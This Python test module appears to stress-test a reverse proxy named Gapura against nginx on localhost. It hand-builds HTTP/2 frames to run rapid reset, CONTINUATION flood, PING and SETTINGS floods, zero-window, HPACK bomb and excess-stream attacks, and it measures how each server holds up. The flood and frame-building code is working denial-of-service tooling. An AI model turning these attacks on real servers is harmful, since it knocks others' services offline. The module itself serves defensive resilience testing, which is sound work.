"""HTTP/2 protocol attacks, raw frames over h2c by prior knowledge, against
Gapura and nginx side by side: rapid reset, CONTINUATION flood, control
frame floods, zero windows, an HPACK bomb and too many streams."""
import os
import socket
import subprocess
import threading
import time
from collections import Counter

from .attack import BIG, Legit, Origin, Watch, mib, report
from .attack import http1_ask as _http1_ask
from . import common
from .common import ROOT, CouldNotRun, figure, free_port, pinned, port_accepts, say
from .gapura import server_block, start_gapura
from .nginx import ensure_nginx, h2_listen, http_conf, start_nginx

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x9
END_STREAM, END_HEADERS = 0x1, 0x4
CANCEL, REFUSED, PROTOCOL_ERROR, CALM = 0x8, 0x7, 0x1, 0xB
CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
         6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR",
         0xB: "ENHANCE_YOUR_CALM"}
MIB = 1 << 20


def http1_ask(port):
    """The legitimate client: GET /legit over HTTP/1.1 on a host of its own
    (a small answer beside the attacked one)."""
    return _http1_ask(port, host="legit.test")


# ------------------------------------------------------------------ frames

def frame(kind, flags, stream, payload=b""):
    return (len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big")
            + payload)


def settings(**params):
    ids = {"initial_window_size": 0x4}
    return frame(SETTINGS, 0, 0, b"".join(ids[k].to_bytes(2, "big") + v.to_bytes(4, "big")
                                          for k, v in params.items()))


def hpack_int(value, bits, first=0):
    """An HPACK integer with a `bits`-bit prefix, `first` holding the
    pattern bits above it."""
    top = (1 << bits) - 1
    if value < top:
        return bytes([first | value])
    out, value = [first | top], value - top
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    return bytes(out + [value])


def literal(name, value, incremental=False):
    """A literal field with a new name: with incremental indexing (0x40)
    or without indexing (0x00)."""
    return (bytes([0x40 if incremental else 0x00]) + hpack_int(len(name), 7) + name
            + hpack_int(len(value), 7) + value)


def request_block(path=b"/", method=0x82, authority=b"a.test"):
    """:method (0x82 GET, 0x83 POST), :scheme http, :path, :authority
    (a literal without indexing, static name 1)."""
    path_field = b"\x84" if path == b"/" else b"\x04" + hpack_int(len(path), 7) + path
    return bytes([method, 0x86]) + path_field + b"\x01" + hpack_int(len(authority), 7) + authority


def open_stream(stream, path=b"/", method=0x82, end_stream=True, extra=b""):
    flags = END_HEADERS | (END_STREAM if end_stream else 0)
    return frame(HEADERS, flags, stream, request_block(path, method) + extra)


# -------------------------------------------------------- the server's side

HUFFMAN_DIGITS = {(0b00000, 5): "0", (0b00001, 5): "1", (0b00010, 5): "2", (0b011001, 6): "3",
                  (0b011010, 6): "4", (0b011011, 6): "5", (0b011100, 6): "6", (0b011101, 6): "7",
                  (0b011110, 6): "8", (0b011111, 6): "9"}
STATIC_STATUS = {8: 200, 9: 204, 10: 206, 11: 304, 12: 400, 13: 404, 14: 500}


def huffman_digits(raw):
    bits = "".join(f"{b:08b}" for b in raw)
    out, i = "", 0
    while i < len(bits):
        for n in (5, 6):
            code = (int(bits[i:i + n], 2), n) if i + n <= len(bits) else None
            if code in HUFFMAN_DIGITS:
                out += HUFFMAN_DIGITS[code]
                i += n
                break
        else:
            break  # the padding
    return out


def status_of(block):
    """The :status of a response header block (its first field), or None."""
    if not block:
        return None
    b = block[0]
    if b & 0x80:
        return STATIC_STATUS.get(b & 0x7F)
    if (b & 0xC0 == 0x40 and b & 0x3F == 8) or (b & 0xF0 in (0x00, 0x10) and b & 0x0F == 8):
        if len(block) < 2:
            return None
        n, huff = block[1] & 0x7F, block[1] & 0x80
        raw = block[2:2 + n]
        text = huffman_digits(raw) if huff else raw.decode("ascii", "replace")
        return int(text) if text.isdigit() else None
    return None


class Seen:
    """What the server sent, parsed as it arrives: frames by type, RST
    codes, :status values, the first GOAWAY and when the connection ended."""

    def __init__(self, t0):
        self.t0 = t0
        self.pending = bytearray()
        self.kinds, self.rst, self.statuses = Counter(), Counter(), Counter()
        self.goaway = None  # (error code, seconds after t0)
        self.eof_at = None
        self.bytes = 0

    def feed(self, data):
        self.bytes += len(data)
        self.pending += data
        while len(self.pending) >= 9:
            n = int.from_bytes(self.pending[:3], "big")
            if len(self.pending) < 9 + n:
                break
            kind, flags = self.pending[3], self.pending[4]
            payload = bytes(self.pending[9:9 + n])
            del self.pending[:9 + n]
            self.kinds[kind] += 1
            if kind == RST and len(payload) >= 4:
                self.rst[int.from_bytes(payload[:4], "big")] += 1
            elif kind == HEADERS:
                pad = payload[0] if flags & 0x8 else 0
                start = (1 if flags & 0x8 else 0) + (5 if flags & 0x20 else 0)
                self.statuses[status_of(payload[start:len(payload) - pad])] += 1
            elif kind == GOAWAY and self.goaway is None and len(payload) >= 8:
                self.goaway = (int.from_bytes(payload[4:8], "big"), time.monotonic() - self.t0)

    def ended(self):
        self.eof_at = self.eof_at or time.monotonic() - self.t0

    @property
    def closed_at(self):
        times = [t for t in (self.goaway and self.goaway[1], self.eof_at) if t is not None]
        return min(times) if times else None

    def goaway_text(self):
        if self.goaway is None:
            return "no GOAWAY"
        return f"GOAWAY {CODES.get(self.goaway[0], hex(self.goaway[0]))} at {self.goaway[1]:.2f} s"

    def text(self):
        out = self.goaway_text()
        out += f", closed at {self.eof_at:.2f} s" if self.eof_at is not None else ", still open"
        if self.rst:
            out += ", RST_STREAM " + ", ".join(f"{CODES.get(c, c)} x{n}" for c, n in self.rst.items())
        if self.statuses:
            out += ", statuses " + ", ".join(f"{s} x{n}" for s, n in self.statuses.items())
        return out


class Conn:
    """One h2c connection: preface and SETTINGS sent at once; the server's
    frames read on a thread of its own unless `reading` is False."""

    def __init__(self, port, hello=None, reading=True, send_timeout=3.0):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.sock.settimeout(send_timeout)
        self.t0 = time.monotonic()
        self.seen = Seen(self.t0)
        self.sent = 0
        self.write_error = None
        self.closing = False
        self.sock.sendall(PREFACE + (hello if hello is not None else settings()))
        self.reader = None
        if reading:
            self.reader = threading.Thread(target=self._read, daemon=True)
            self.reader.start()

    def _read(self):
        # A timeout here too: the two share the descriptor's blocking mode.
        rsock = self.sock.dup()
        rsock.settimeout(0.5)
        try:
            while not self.closing:
                try:
                    data = rsock.recv(65536)
                except socket.timeout:
                    continue
                if not data:
                    break
                self.seen.feed(data)
        except OSError:
            pass
        finally:
            if not self.closing:
                self.seen.ended()
            rsock.close()

    def send(self, data):
        if self.write_error:
            return False
        try:
            self.sock.sendall(data)
            self.sent += len(data)
            return True
        except OSError as e:
            self.write_error = type(e).__name__
            return False

    def drain(self, timeout_s):
        """Reads (on this thread, for a connection read on none) until the
        server closes or `timeout_s` pass."""
        end = time.monotonic() + timeout_s
        while time.monotonic() < end and self.seen.eof_at is None:
            self.sock.settimeout(max(0.05, end - time.monotonic()))
            try:
                data = self.sock.recv(65536)
            except socket.timeout:
                break
            except OSError:
                data = b""
            if not data:
                self.seen.ended()
                break
            self.seen.feed(data)

    def wait_closed(self, timeout_s):
        end = time.monotonic() + timeout_s
        while time.monotonic() < end and self.seen.eof_at is None:
            time.sleep(0.02)
        return self.seen.eof_at is not None

    def close(self):
        self.closing = True
        try:
            self.sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.sock.close()
        if self.reader:
            self.reader.join(2)


# ----------------------------------------------------------------- servers

def gapura_profile(port, admin, hosts, server_extra=""):
    return server_block(port, admin, server_extra) + hosts + '\n[protection]\noff = ["all"]\n'


def proxy_hosts(origin_port, protocol="http1"):
    return f"""
[[upstream]]
name = "origin"
servers = ["127.0.0.1:{origin_port}"]
protocol = "{protocol}"

[[host]]
names = ["a.test"]
default = true
kind = "proxy"
  [[host.route]]
  path = "/"
  upstream = "origin"
"""


def respond_hosts(body_bytes=6):
    body = "hello\\n" if body_bytes == 6 else "x" * body_bytes
    return f"""
[[host]]
names = ["legit.test"]
kind = "respond"
status = 200
content_type = "text/plain"
body = "ok\\n"

[[host]]
names = ["a.test"]
default = true
kind = "respond"
status = 200
content_type = "text/plain"
body = "{body}"
"""


def nginx_server(port, legit_port, location, nginx_bin, extra=""):
    return f"""    server {{
        {h2_listen(nginx_bin, port)}
        listen 127.0.0.1:{legit_port};
        server_name _;
{extra}
        location = /legit {{ return 200 "ok\\n"; }}
        location / {{ {location} }}
    }}"""


class Sides:
    """Gapura, and nginx beside it when installed: each a name, a port for
    the attack, a port for the legitimate client, and its processes."""

    def __init__(self, ctx, name, gapura_hosts, nginx_location, gapura_server="",
                 nginx_extra="", www=None):
        self.list = []
        port, admin = free_port(), free_port()
        srv = start_gapura(ctx, f"{name}-gapura", gapura_profile(port, admin, gapura_hosts,
                                                                  gapura_server), port, admin)
        self.gapura = srv
        self.list.append(("gapura", port, port, lambda: [srv.pid], srv))
        binary = ensure_nginx(ctx)
        if binary is None:
            return
        nport, lport = free_port(), free_port()

        def conf(prefix):
            if www:
                www(prefix)
            loc = nginx_location.replace("@PREFIX@", prefix)
            return http_conf(prefix, nginx_server(nport, lport, loc, binary, nginx_extra))
        ng = start_nginx(ctx, name, conf, wait_port=nport)
        self.list.append(("nginx", nport, lport, ng.pids, ng))

    def stop(self, ctx):
        for *_, srv in self.list:
            ctx.procs.stop(srv.proc)


def alive(server):
    return server.proc.poll() is None


# ------------------------------------------------------------ rapid reset

def reset_pair(stream):
    return open_stream(stream) + frame(RST, 0, stream, CANCEL.to_bytes(4, "big"))


def rapid_reset_round(port, per_write, rate=3000, seconds=5.0, most=15000):
    """Pairs `per_write` to a write at `rate` streams a second until the
    server closes, `seconds` pass or `most` streams were sent."""
    c = Conn(port)
    stream, opened = 1, 0
    while opened < most and time.monotonic() - c.t0 < seconds and c.seen.closed_at is None:
        batch = b"".join(reset_pair(stream + 2 * i) for i in range(per_write))
        if not c.send(batch):
            break
        stream += 2 * per_write
        opened += per_write
        delay = c.t0 + opened / rate - time.monotonic()
        if delay > 0:
            time.sleep(delay)
    c.wait_closed(3)
    c.close()
    return opened, c.seen


def rapid_reset_side(label, port, legit_port, pids, origin):
    watch = Watch(pids).start()
    legit = Legit(http1_ask(legit_port)).start()
    rounds = []
    for per_write in (1, 20, 100):
        before = origin.requests
        opened, seen = rapid_reset_round(port, per_write)
        time.sleep(1.0)  # requests still on their way to the origin
        reached = origin.requests - before
        rounds.append((per_write, opened, reached, seen))
        closed = seen.closed_at
        figure(f"{label}, {per_write} pairs a write",
               f"{opened} streams sent, origin saw {reached}, {seen.goaway_text()}, "
               f"{'closed at ' + format(closed, '.2f') + ' s' if closed is not None else 'never closed'}")
    legit.stop()
    watch.stop()
    report(label, watch, legit)
    return rounds, watch, legit


def scenario_h2_rapid_reset(ctx):
    origin = Origin(free_port())
    try:
        sides = Sides(ctx, "rapid-reset", proxy_hosts(origin.port),
                      f"proxy_pass http://127.0.0.1:{origin.port};")
        figure("setup", f"proxy host -> a counting Python origin (127.0.0.1:{origin.port}); "
               "HEADERS+RST_STREAM(CANCEL) pairs at 3,000 streams/s for at most 5 s per batching; "
               "Gapura http2_max_resets = 200 (default)")
        out = {}
        for label, port, lport, pids, srv in sides.list:
            out[label] = rapid_reset_side(label, port, lport, pids, origin)
    finally:
        origin.close()
    rounds, watch, legit = out["gapura"]
    bad = [f"{pw}/write: origin {r}, {'closed' if s.closed_at is not None else 'open'}"
           for pw, _, r, s in rounds if r > 200 or s.closed_at is None]
    ok = not bad and alive(sides.gapura)
    why = "; ".join(f"{pw}/write {o} sent, origin {r}, "
                    f"{s.goaway_text()}" for pw, o, r, s in rounds)
    why += f"; RSS peak {mib(watch.peak_growth_kib)}, CPU {watch.cpu_s:.2f} s, legit {legit.ok}/{legit.sent}"
    if "nginx" in out:
        why += "; nginx origin " + "/".join(str(r) for _, _, r, _ in out["nginx"][0])
    return ok, why + (f"; over the bound: {', '.join(bad)}" if bad else "")


# ------------------------------------------------------- CONTINUATION flood

def continuation_flood(port, budget=64 * MIB):
    c = Conn(port)
    c.send(frame(HEADERS, END_STREAM, 1, bytes([0x82, 0x86, 0x84])))
    fields = b"".join(literal(b"x-a", b"0123456789") for _ in range(1000))
    cont = frame(CONTINUATION, 0, 1, fields[:16000])
    chunk = cont * 16
    while c.sent < budget and c.seen.closed_at is None:
        if not c.send(chunk):
            break
    sent_at_close = c.sent
    c.wait_closed(3)
    c.close()
    return sent_at_close, c


def scenario_h2_continuation(ctx):
    sides = Sides(ctx, "continuation", respond_hosts(), 'return 200 "hello\\n";')
    figure("setup", "respond host; HEADERS (no END_HEADERS) then CONTINUATION frames of literal "
           "fields (16,000 bytes each) until the server closes or 64 MiB were sent")
    res = {}
    for label, port, lport, pids, srv in sides.list:
        watch = Watch(pids).start()
        legit = Legit(http1_ask(lport)).start()
        sent, c = continuation_flood(port)
        legit.stop()
        watch.stop()
        report(label, watch, legit, f"{sent / MIB:.2f} MiB sent; {c.seen.text()}"
               f"{'; write ' + c.write_error if c.write_error else ''}")
        res[label] = (sent, c, watch, legit)
    sent, c, watch, legit = res["gapura"]
    cut = c.seen.closed_at is not None and sent < 64 * MIB
    ok = cut and watch.peak_growth_kib <= 16 * 1024 and alive(sides.gapura)
    why = (f"{'cut off' if cut else 'NOT cut off'} after {sent / MIB:.2f} MiB ({c.seen.goaway_text()}), "
           f"RSS peak {mib(watch.peak_growth_kib)} (<= 16 MiB), CPU {watch.cpu_s:.2f} s, "
           f"legit {legit.ok}/{legit.sent}")
    if "nginx" in res:
        n = res["nginx"]
        why += (f"; nginx: {n[0] / MIB:.2f} MiB sent, {n[1].seen.goaway_text()}, "
                f"RSS {mib(n[2].peak_growth_kib)}")
    return ok, why


# --------------------------------------------------------- control floods

def control_flood(port, kind, frames=200_000, per_write=1000):
    """`frames` PING or empty SETTINGS frames, never read while written."""
    c = Conn(port, reading=False)
    one = (lambda i: frame(PING, 0, 0, i.to_bytes(8, "big"))) if kind == "ping" else \
        (lambda i: frame(SETTINGS, 0, 0))
    n = 0
    while n < frames:
        if not c.send(b"".join(one(n + i) for i in range(per_write))):
            break
        n += per_write
    c.drain(3)
    c.close()
    return n, c


def scenario_h2_control_flood(ctx):
    sides = Sides(ctx, "control-flood", respond_hosts(), 'return 200 "hello\\n";')
    figure("setup", "respond host; 200,000 PING frames, then on a new connection 200,000 empty "
           "SETTINGS frames, written 1,000 a write without reading (a write blocked 3 s ends "
           "the flood), then read for 3 s; Gapura http2_max_control_frames = 1000 (default)")
    res = {}
    for label, port, lport, pids, srv in sides.list:
        watch = Watch(pids).start()
        legit = Legit(http1_ask(lport)).start()
        floods = {k: control_flood(port, k) for k in ("ping", "settings")}
        legit.stop()
        watch.stop()
        for k, (n, c) in floods.items():
            figure(f"{label}, {k} flood", f"{n} frames written ({c.sent / MIB:.1f} MiB)"
                   f"{', write ' + c.write_error if c.write_error else ''}; {c.seen.text()}; "
                   f"{c.seen.kinds.get(PING, 0)} PING frames back")
        report(label, watch, legit)
        res[label] = (floods, watch, legit)
    floods, watch, legit = res["gapura"]
    stopped = {k: c.seen.goaway is not None and c.seen.goaway[0] == CALM or c.seen.eof_at is not None
               for k, (n, c) in floods.items()}
    ok = all(stopped.values()) and watch.peak_growth_kib <= 16 * 1024 and alive(sides.gapura)
    why = "; ".join(f"{k}: {n} written, {c.seen.goaway_text()}" for k, (n, c) in floods.items())
    why += (f"; RSS peak {mib(watch.peak_growth_kib)} (<= 16 MiB), CPU {watch.cpu_s:.2f} s, "
            f"legit {legit.ok}/{legit.sent}")
    if "nginx" in res:
        nf, nw, _ = res["nginx"]
        why += "; nginx: " + ", ".join(f"{k} {c.seen.goaway_text()}" for k, (n, c) in nf.items()) \
            + f", RSS {mib(nw.peak_growth_kib)}, CPU {nw.cpu_s:.2f} s"
    return ok, why


# -------------------------------------------------------------- zero window

def zero_window_side(label, port, lport, pids, path, conns=4, streams=128, hold_s=5.0):
    watch = Watch(pids).start()
    legit = Legit(http1_ask(lport)).start()
    cs = []
    for _ in range(conns):
        c = Conn(port, hello=settings(initial_window_size=0))
        c.send(b"".join(open_stream(1 + 2 * i, path=path) for i in range(streams)))
        cs.append(c)
    time.sleep(hold_s)
    growth = watch.growth_now_kib()
    legit.stop()
    watch.stop()
    heads = sum(c.seen.kinds.get(HEADERS, 0) for c in cs)
    refused = sum(sum(c.seen.rst.values()) for c in cs)
    data = sum(c.seen.kinds.get(DATA, 0) for c in cs)
    for c in cs:
        c.close()
    report(label, watch, legit, f"after {hold_s:.0f} s {mib(growth)}; {heads} response heads, "
           f"{data} DATA frames, {refused} RST_STREAM for {conns * streams} streams")
    return growth, watch, legit


def zero_window_variant(ctx, name, gapura_hosts, nginx_location, path, www=None):
    sides = Sides(ctx, name, gapura_hosts, nginx_location, gapura_server="http2_max_streams = 128\n",
                  www=www)
    out = {label: zero_window_side(label, port, lport, pids, path)
           for label, port, lport, pids, srv in sides.list}
    sides.stop(ctx)
    return out, sides


def write_big(prefix):
    os.makedirs(os.path.join(prefix, "www"), exist_ok=True)
    with open(os.path.join(prefix, "www", "big"), "wb") as f:
        f.write(b"x" * BIG)


def scenario_h2_zero_window(ctx):
    figure("setup", f"4 connections x 128 streams, SETTINGS_INITIAL_WINDOW_SIZE = 0, each stream "
           f"asking for {BIG:,} bytes, no WINDOW_UPDATE ever; RSS growth 5 s later (target <= 32 MiB); "
           "Gapura http2_max_streams = 128")
    say("  -- built-in answer (Gapura respond host with a 1,000,000-byte body; nginx a static file)")
    built, s1 = zero_window_variant(ctx, "zero-window-respond", respond_hosts(BIG),
                                    "root @PREFIX@/www;", b"/big", www=write_big)
    say("  -- proxied (Gapura and nginx proxy to a Python origin answering 1,000,000 bytes)")
    origin = Origin(free_port())
    try:
        proxied, s2 = zero_window_variant(ctx, "zero-window-proxy", proxy_hosts(origin.port),
                                          f"proxy_pass http://127.0.0.1:{origin.port};", b"/big")
    finally:
        origin.close()
    say("  -- proxied to an HTTP/2 upstream (Gapura protocol = \"h2\", nginx grpc_pass; "
        "grpc-echo answering 1,000,000 bytes over h2c)")
    echo = os.path.join(ROOT, "target", "release", "grpc-echo")
    if not os.path.exists(echo):
        raise CouldNotRun("target/release/grpc-echo is missing (cargo build --release "
                          "-p gapura-bench --bin grpc-echo)")
    up_port = free_port()
    upstream = subprocess.Popen(pinned(common.LOAD_CORE, [echo, str(up_port)]))
    try:
        deadline = time.time() + 10
        while not port_accepts(up_port):
            if time.time() > deadline:
                raise CouldNotRun("grpc-echo did not start")
            time.sleep(0.05)
        h2up, s3 = zero_window_variant(ctx, "zero-window-h2-upstream",
                                       proxy_hosts(up_port, "h2"),
                                       f"grpc_pass grpc://127.0.0.1:{up_port};", b"/big")
    finally:
        upstream.terminate()
        upstream.wait(timeout=15)
    limit = 32 * 1024
    g_built, g_proxy, g_h2 = built["gapura"][0], proxied["gapura"][0], h2up["gapura"][0]
    ok = g_built <= limit and g_proxy <= limit and g_h2 <= limit and \
        all(v["gapura"][2].all_ok for v in (built, proxied, h2up))
    why = (f"built-in answer {mib(g_built)}, proxied {mib(g_proxy)}, h2 upstream {mib(g_h2)} "
           f"after 5 s (target <= 32 MiB); CPU {built['gapura'][1].cpu_s:.2f} / "
           f"{proxied['gapura'][1].cpu_s:.2f} / {h2up['gapura'][1].cpu_s:.2f} s; legit "
           f"{built['gapura'][2].ok}/{built['gapura'][2].sent}, "
           f"{proxied['gapura'][2].ok}/{proxied['gapura'][2].sent}, "
           f"{h2up['gapura'][2].ok}/{h2up['gapura'][2].sent}")
    if all("nginx" in v for v in (built, proxied, h2up)):
        why += (f"; nginx static {mib(built['nginx'][0])}, proxied {mib(proxied['nginx'][0])}, "
                f"grpc_pass {mib(h2up['nginx'][0])}")
    return ok, why


# -------------------------------------------------------------- HPACK bomb

BOMB_NAME = b"x-bomb"
# The largest value whose entry (32 + name + value) fits the default
# 4,096-byte dynamic table; a bigger one empties the table and is not kept.
BOMB_VALUE = b"v" * (4096 - 32 - len(BOMB_NAME))


def hpack_bomb(port, streams=400, refs=16000):
    """Stream 1 inserts the large field; every later stream (and one
    block of `refs` references each) names it by index 62."""
    c = Conn(port)
    c.send(open_stream(1, extra=literal(BOMB_NAME, BOMB_VALUE, incremental=True)))
    time.sleep(0.2)
    bomb = b"\xbe" * refs
    for i in range(1, streams):
        if not c.send(open_stream(1 + 2 * i, extra=bomb)):
            break
        if c.seen.closed_at is not None:
            break
    c.wait_closed(2)
    c.close()
    return c


def scenario_h2_hpack_bomb(ctx):
    sides = Sides(ctx, "hpack-bomb", respond_hosts(), 'return 200 "hello\\n";')
    figure("setup", f"respond host; stream 1 inserts `x-bomb` ({len(BOMB_VALUE)}-byte value, the "
           "largest a 4,096-byte table keeps) with incremental indexing, then 399 HEADERS "
           "blocks each referencing it (index 62) 16,000 times (64 MB of fields a block)")
    res = {}
    for label, port, lport, pids, srv in sides.list:
        watch = Watch(pids).start()
        legit = Legit(http1_ask(lport)).start()
        c = hpack_bomb(port)
        legit.stop()
        watch.stop()
        report(label, watch, legit, f"{c.sent / MIB:.2f} MiB sent; {c.seen.text()}")
        res[label] = (c, watch, legit)
    c, watch, legit = res["gapura"]
    s = c.seen
    refused = s.goaway is not None or sum(s.rst.values()) > 0 or \
        any(k is not None and 400 <= k < 500 for k in s.statuses)
    bomb_ok = s.statuses.get(200, 0) <= 1  # stream 1 itself may be answered
    ok = refused and bomb_ok and watch.peak_growth_kib <= 16 * 1024 and legit.all_ok and \
        alive(sides.gapura)
    why = (f"{'refused' if refused else 'NOT refused'}: {s.text()}; RSS peak "
           f"{mib(watch.peak_growth_kib)} (<= 16 MiB), CPU {watch.cpu_s:.2f} s, legit "
           f"{legit.ok}/{legit.sent}")
    if not bomb_ok:
        why += f"; {s.statuses.get(200)} bomb streams answered 200"
    if "nginx" in res:
        nc, nw, _ = res["nginx"]
        why += f"; nginx: {nc.seen.text()}, RSS {mib(nw.peak_growth_kib)}, CPU {nw.cpu_s:.2f} s"
    return ok, why


# ------------------------------------------------------------ too many streams

def too_many_streams(port, streams=1000):
    """POST streams with a body announced and never sent."""
    c = Conn(port)
    cl = b"\x0f\x0d" + hpack_int(3, 7) + b"100"  # content-length: 100, static name 28
    c.send(b"".join(open_stream(1 + 2 * i, path=b"/upload", method=0x83, end_stream=False,
                                extra=cl) for i in range(streams)))
    return c


def scenario_h2_streams(ctx):
    origin = Origin(free_port())
    try:
        sides = Sides(ctx, "streams", proxy_hosts(origin.port),
                      f"proxy_pass http://127.0.0.1:{origin.port};")
        figure("setup", "proxy host -> a Python origin; 4 connections, each 1,000 POST streams "
               "(content-length: 100, no body ever) at once; Gapura http2_max_streams = 128 "
               "(default); held 3 s")
        res = {}
        for label, port, lport, pids, srv in sides.list:
            watch = Watch(pids).start()
            legit = Legit(http1_ask(lport)).start()
            cs = [too_many_streams(port) for _ in range(4)]
            time.sleep(3)
            legit.stop()
            watch.stop()
            for c in cs:
                c.close()
            rst = Counter()
            for c in cs:
                rst.update(c.seen.rst)
            goaways = [c.seen.goaway_text() for c in cs if c.seen.goaway]
            report(label, watch, legit, f"RST_STREAM {dict((CODES.get(k, k), v) for k, v in rst.items())}"
                   f", {len(goaways)} GOAWAY {goaways[:1]}, statuses "
                   f"{dict(sum((c.seen.statuses for c in cs), Counter()))}")
            res[label] = (cs, rst, watch, legit)
    finally:
        origin.close()
    cs, rst, watch, legit = res["gapura"]
    per_conn_refused = [c.seen.rst.get(REFUSED, 0) + c.seen.rst.get(PROTOCOL_ERROR, 0) >= 1000 - 128
                        or c.seen.goaway is not None for c in cs]
    ok = all(per_conn_refused) and watch.peak_growth_kib <= 16 * 1024 and alive(sides.gapura)
    why = (f"refused on {sum(per_conn_refused)}/4 connections (RST_STREAM "
           f"{dict((CODES.get(k, k), v) for k, v in rst.items())}), RSS peak "
           f"{mib(watch.peak_growth_kib)} (<= 16 MiB), CPU {watch.cpu_s:.2f} s, legit "
           f"{legit.ok}/{legit.sent}")
    if "nginx" in res:
        _, nrst, nw, _ = res["nginx"]
        why += (f"; nginx RST_STREAM {dict((CODES.get(k, k), v) for k, v in nrst.items())}, RSS "
                f"{mib(nw.peak_growth_kib)}")
    return ok, why
